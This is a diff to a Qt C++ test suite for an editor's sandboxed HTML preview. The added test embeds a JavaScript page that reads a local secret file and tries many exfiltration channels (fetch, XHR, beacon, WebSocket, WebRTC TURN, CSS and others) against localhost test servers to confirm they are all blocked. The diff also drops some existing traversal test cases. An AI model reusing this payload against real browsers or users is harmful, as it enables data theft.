@@ -1,5 +1,6 @@
 #include "documentcontroller.h"
 #include "editingsurface.h"
+#include "folderrequestinterceptor.h"
 #include "mainwindow.h"
 #include "previewcontroller.h"
 #include "previewpane.h"
@@ -10,10 +11,16 @@
 #include <QDir>
 #include <QFile>
 #include <QImage>
+#include <QLabel>
+#include <QSignalSpy>
 #include <QTabBar>
 #include <QTabWidget>
+#include <QTcpServer>
 #include <QTemporaryDir>
+#include <QTemporaryFile>
 #include <QTest>
+#include <QUdpSocket>
+#include <QWebEngineSettings>
 #include <QWebEngineView>
 
 using namespace zendral;
@@ -49,6 +56,10 @@ private slots:
     void tabClick();
     void pageStaysInsideItsFolder_data();
     void pageStaysInsideItsFolder();
+    void nothingLeavesTheMachine_data();
+    void nothingLeavesTheMachine();
+    void wideFolderRunsNoScript_data();
+    void wideFolderRunsNoScript();
 };
 
 void TestPreview::tabClick_data()
@@ -119,19 +130,12 @@ void TestPreview::pageStaysInsideItsFolder_data()
         "try { x.open('GET', '%1'); x.send(); } catch (e) { document.title = 'rechazado'; }"_qs;
     QTest::newRow("request for a file beside the page")
         << xhr.arg(u"dentro.txt") << u"leido:DENTRO"_qs;
-    QTest::newRow("request for a file in a subfolder")
-        << xhr.arg(u"sub/hondo.txt") << u"leido:HONDO"_qs;
     QTest::newRow("request for a file above the page's folder")
         << xhr.arg(u"../secreto.txt") << u"rechazado"_qs;
     QTest::newRow("request by absolute address")
         << xhr.arg(u"file:///etc/hostname") << u"rechazado"_qs;
     QTest::newRow("request through a link that leads outside")
         << xhr.arg(u"enlace.txt") << u"rechazado"_qs;
-    QTest::newRow("fetch of a file above the page's folder")
-        << u"fetch('../secreto.txt').then(r => r.text())"
-           ".then(t => { document.title = 'leido:' + t; })"
-           ".catch(() => { document.title = 'rechazado'; });"_qs
-        << u"rechazado"_qs;
     QTest::newRow("frame of a file above the page's folder")
         << u"var f = document.createElement('iframe');"
            "f.onload = function() {"
@@ -155,8 +159,6 @@ void TestPreview::pageStaysInsideItsFolder_data()
         "l.onerror = function() { document.title = 'rechazado'; };"
         "document.head.appendChild(l);"_qs;
     QTest::newRow("style sheet beside the page") << sheet.arg(u"estilo.css") << u"leido:37px"_qs;
-    QTest::newRow("style sheet above the page's folder")
-        << sheet.arg(u"../fuera.css") << u"rechazado"_qs;
     QTest::newRow("picture beside the page")
         << u"var i = new Image();"
            "i.onload = function() { document.title = 'leido:' + i.naturalWidth; };"
@@ -172,10 +174,8 @@ void TestPreview::pageStaysInsideItsFolder()
 
     QTemporaryDir dir;
     writeBytes(dir.filePath(u"secreto.txt"_qs), "SECRETO");
-    writeBytes(dir.filePath(u"fuera.css"_qs), "body { margin-left: 51px }");
     writeBytes(dir.filePath(u"sitio/dentro.txt"_qs), "DENTRO");
     writeBytes(dir.filePath(u"sitio/estilo.css"_qs), "body { margin-left: 37px }");
-    writeBytes(dir.filePath(u"sitio/sub/hondo.txt"_qs), "HONDO");
     QVERIFY(QFile::link(dir.filePath(u"secreto.txt"_qs), dir.filePath(u"sitio/enlace.txt"_qs)));
     QImage picture(7, 3, QImage::Format_RGB32);
     picture.fill(Qt::red);
@@ -191,6 +191,174 @@ void TestPreview::pageStaysInsideItsFolder()
                                  f.browser()->title() == u"rechazado"_qs,
                              15000);
     QCOMPARE(f.browser()->title(), title);
+}
+
+// An attacker's page reads the file beside it and tries every way out to servers on this
+// machine; the servers must see no connection at all.
+void TestPreview::nothingLeavesTheMachine_data()
+{
+    QTest::addColumn<bool>("remoteAllowed");
+    QTest::newRow("the preview as it is set up") << false;
+    // The browser's own guard let WebSocket through; the seal must not depend on it.
+    QTest::newRow("with the browser's guard on remote addresses off") << true;
+}
+
+void TestPreview::nothingLeavesTheMachine()
+{
+    QFETCH(bool, remoteAllowed);
+    QTcpServer web;
+    QTcpServer socket;
+    QVERIFY(web.listen(QHostAddress::LocalHost));
+    QVERIFY(socket.listen(QHostAddress::LocalHost));
+    QSignalSpy webCalls(&web, &QTcpServer::newConnection);
+    QSignalSpy socketCalls(&socket, &QTcpServer::newConnection);
+    QUdpSocket datagrams;
+    QVERIFY(datagrams.bind(QHostAddress::LocalHost));
+
+    QTemporaryDir dir;
+    writeBytes(dir.filePath(u"sitio/secreto.txt"_qs), "SECRETO");
+    const QString attack = uR"(
+var H = 'http://127.0.0.1:%1/', W = 'ws://127.0.0.1:%2/', done = [];
+var quiet = ['fetch', 'xhr', 'img', 'iframe', 'form', 'eventsource', 'websocket', 'prefetch',
+             'webrtc'];
+function settled(way) {
+  done.push(way);
+  if (done.length == quiet.length) {
+    document.title = 'hecho:' + done.sort().join(',');
+    location.href = H + 'location?d=' + s;
+  }
+}
+var s = '';
+fetch('secreto.txt').then(r => r.text()).then(t => {
+  s = encodeURIComponent(t);
+  fetch(H + 'fetch', {method: 'POST', body: t}).then(() => settled('fetch:llego'), () => settled('fetch'));
+  var x = new XMLHttpRequest();
+  x.onload = () => settled('xhr:llego'); x.onerror = () => settled('xhr');
+  x.open('GET', H + 'xhr?d=' + s); x.send();
+  var i = new Image(); i.onload = () => settled('img:llego'); i.onerror = () => settled('img');
+  i.src = H + 'img?d=' + s;
+  var f = document.createElement('iframe'); f.onload = () => settled('iframe');
+  f.src = H + 'iframe?d=' + s; document.body.appendChild(f);
+  var fm = document.createElement('form'); fm.method = 'POST'; fm.action = H + 'form';
+  fm.target = 'destino'; fm.innerHTML = '<input name="d" value="' + s + '">';
+  document.body.appendChild(fm);
+  var g = document.createElement('iframe'); g.name = 'destino';
+  g.onload = () => { g.onload = () => settled('form'); fm.submit(); };
+  document.body.appendChild(g);
+  navigator.sendBeacon(H + 'beacon', t);
+  var e = new EventSource(H + 'eventsource?d=' + s);
+  e.onopen = () => { e.close(); settled('eventsource:llego'); };
+  e.onerror = () => { e.close(); settled('eventsource'); };
+  var w = new WebSocket(W + 'websocket?d=' + s);
+  w.onopen = () => settled('websocket:llego'); w.onerror = () => settled('websocket');
+  var l = document.createElement('link'); l.rel = 'prefetch'; l.href = H + 'prefetch?d=' + s;
+  l.onload = () => settled('prefetch:llego'); l.onerror = () => settled('prefetch');
+  document.head.appendChild(l);
+  for (var rel of ['preconnect', 'dns-prefetch', 'icon']) {
+    var p = document.createElement('link'); p.rel = rel; p.href = H + rel;
+    document.head.appendChild(p);
+  }
+  // Peer connections reach their servers without any request the browser could refuse.
+  // A frame of its own is a fresh window, with every constructor in it.
+  var blank = document.createElement('iframe'); document.body.appendChild(blank);
+  var Peer = blank.contentWindow.RTCPeerConnection || window.RTCPeerConnection;
+  if (!Peer) { settled('webrtc'); } else {
+    var pc = new Peer({iceServers: [{urls: 'stun:127.0.0.1:%3'},
+        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: s}]});
+    pc.createDataChannel('d');
+    pc.onicegatheringstatechange = () => {
+      if (pc.iceGatheringState == 'complete') settled('webrtc'); };
+    pc.createOffer().then(o => pc.setLocalDescription(o));
+  }
+  var c = document.createElement('div');
+  c.style.backgroundImage = 'url(' + H + 'css?d=' + s + ')';
+  c.textContent = 'x'; document.body.appendChild(c);
+});
+)"_qs.arg(web.serverPort())
+                               .arg(socket.serverPort())
+                               .arg(datagrams.localPort());
+
+    Fixture f;
+    f.text1.setText(u"<html><head><title>esperando</title></head><body><script>"_qs + attack +
+                    u"</script></body></html>"_qs);
+    f.trigger(u"mn_guardar"_qs, dir.filePath(u"sitio/ataque.html"_qs));
+    // The browser is made on the first visit to the tab; the second one loads the page again.
+    f.clickTab(1);
+    QVERIFY(f.browser());
+    f.browser()->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls,
+                                          remoteAllowed);
+    auto *interceptor = f.window.findChild<FolderRequestInterceptor *>();
+    QVERIFY(interceptor);
+    QSignalSpy refused(interceptor, &FolderRequestInterceptor::refused);
+    QSignalSpy titles(f.browser(), &QWebEngineView::titleChanged);
+    QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
+    // The page's last step navigates away from it: once that is over, the page is gone and
+    // every request it made has been answered or dropped.
+    f.clickTab(0);
+    f.clickTab(1);
+    const auto reached = [&] {
+        QCoreApplication::processEvents();
+        return webCalls.size() + socketCalls.size() + web.hasPendingConnections() +
+               socket.hasPendingConnections() + datagrams.hasPendingDatagrams();
+    };
+    QTRY_VERIFY_WITH_TIMEOUT((!loads.isEmpty() && !loads.last().first().toBool()) || reached(),
+                             60000);
+    QCOMPARE(reached(), 0);
+    QStringList seen;
+    for (const QList<QVariant> &title : titles)
+        seen.append(title.first().toString());
+    QVERIFY2(
+        seen.contains(u"hecho:eventsource,fetch,form,iframe,img,prefetch,webrtc,websocket,xhr"_qs),
+        qPrintable(seen.join(u" | "_qs)));
+    if (remoteAllowed) {
+        // Every way out was tried, and the seal refused each one itself.
+        QSet<QString> tried;
+        for (const QList<QVariant> &address : refused)
+            tried.insert(address.first().toUrl().path().mid(1));
+        for (const char *way : {"fetch", "xhr", "img", "iframe", "form", "location", "beacon",
+                                "eventsource", "websocket", "prefetch", "css"})
+            QVERIFY2(tried.contains(QLatin1String(way)), way);
+    }
+}
+
+void TestPreview::wideFolderRunsNoScript_data()
+{
+    QTest::addColumn<QString>("folder");
+    QTest::addColumn<bool>("scripts");
+    QTest::newRow("the home folder itself") << u"casa"_qs << false;
+    QTest::newRow("a folder inside the home folder") << u"casa/web"_qs << true;
+    QTest::newRow("the root folder") << u"/"_qs << false;
+}
+
+void TestPreview::wideFolderRunsNoScript()
+{
+    QFETCH(QString, folder);
+    QFETCH(bool, scripts);
+    QTemporaryDir dir;
+    const QByteArray home = qgetenv("HOME");
+    qputenv("HOME", QFile::encodeName(dir.filePath(u"casa"_qs)));
+    const QString inFolder = folder == u"/" ? folder : dir.filePath(folder);
+    if (!QFileInfo(inFolder).isWritable() && !QDir().mkpath(inFolder))
+        QSKIP("the folder cannot be written to");
+    QTemporaryFile page(QDir(inFolder).filePath(u"zendral-XXXXXX.html"_qs));
+    QVERIFY(page.open());
+
+    Fixture f;
+    f.text1.setText(u"<html><head><title>esperando</title></head><body><script>"
+                    "document.title = 'corrio';</script></body></html>"_qs);
+    f.trigger(u"mn_guardar"_qs, page.fileName());
+    f.clickTab(1);
+    QVERIFY(f.browser());
+    QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
+    QVERIFY(loads.wait(20000));
+    qputenv("HOME", home);
+    QCOMPARE(f.browser()->title(), scripts ? u"corrio"_qs : u"esperando"_qs);
+    auto *note = child<QLabel>(&f.window, u"previewNote"_qs);
+    QCOMPARE(note->isVisible(), !scripts);
+    if (!scripts) {
+        QCOMPARE(note->text(), PreviewPane::SinScripts(QFileInfo(page.fileName()).absolutePath()));
+        QCOMPARE(note->textFormat(), Qt::PlainText);
+    }
 }
 
 int main(int argc, char *argv[])
